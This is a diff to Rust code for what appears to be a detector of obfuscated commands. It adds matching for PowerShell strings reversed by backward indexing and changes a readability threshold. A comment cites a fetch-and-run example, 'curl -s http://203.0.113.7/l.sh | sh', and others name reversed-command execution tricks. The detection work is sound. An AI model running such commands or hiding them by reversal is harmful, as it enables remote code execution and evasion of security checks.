@@ -118,6 +118,15 @@ pub fn mentions_reversal(folded: &str) -> bool {
     if code && RUNS_REVERSED.is_match(bytes) {
         return true;
     }
+    // PowerShell indexes a string backwards: `$s[($s.Length - 1)..0]`,
+    // `$s[-1..-($s.Length)]`, or `[array]::Reverse($chars)`.
+    let indexed_backwards = memchr::memmem::find(bytes, b"..").is_some()
+        && (memchr::memmem::find(bytes, b".length").is_some()
+            || memchr::memmem::find(bytes, b".count").is_some())
+        && POWERSHELL_REVERSED.is_match(bytes);
+    if indexed_backwards || memchr::memmem::find(bytes, b"[array]::reverse(").is_some() {
+        return true;
+    }
     if memchr::memmem::find(bytes, b"revers").is_none()
         && memchr::memmem::find(bytes, b"backward").is_none()
     {
@@ -143,6 +152,16 @@ static REVERSAL_HINT: std::sync::LazyLock<regex::bytes::Regex> = std::sync::Lazy
     )
     .unwrap_or_else(|e| unreachable!("a fixed pattern compiles: {e}"))
 });
+
+/// A PowerShell string or array indexed from its end to its start.
+static POWERSHELL_REVERSED: std::sync::LazyLock<regex::bytes::Regex> = std::sync::LazyLock::new(
+    || {
+        regex::bytes::Regex::new(
+            r"(?-u)\[\s*\(?\s*\$[a-z_][a-z0-9_]*\.(?:length|count)\s*-\s*1\s*\)?\s*\.\.\s*0\s*\]|\[\s*-1\s*\.\.\s*-\s*\(?\s*\$[a-z_][a-z0-9_]*\.(?:length|count)\b",
+        )
+        .unwrap_or_else(|e| unreachable!("a fixed pattern compiles: {e}"))
+    },
+);
 
 /// A command run on text it reverses first (`os.system(CMD[::-1])`,
 /// `execSync(s.split('').reverse().join(''))`).
@@ -912,7 +931,9 @@ fn readable(text: &str) -> bool {
         .filter(|c| !c.is_control() || *c == '\n' || *c == '\t')
         .count();
     let letters = text.chars().filter(|c| c.is_alphabetic()).count();
-    total >= 8 && printable == total && letters * 2 >= total && text.contains(' ')
+    // A third letters: a command (`curl -s http://203.0.113.7/l.sh | sh`) is
+    // mostly digits and punctuation; bytes that are not text fail `printable`.
+    total >= 8 && printable == total && letters * 3 >= total && text.contains(' ')
 }
 
 /// Shortest line of a wrapped base64 block that is joined to the next one
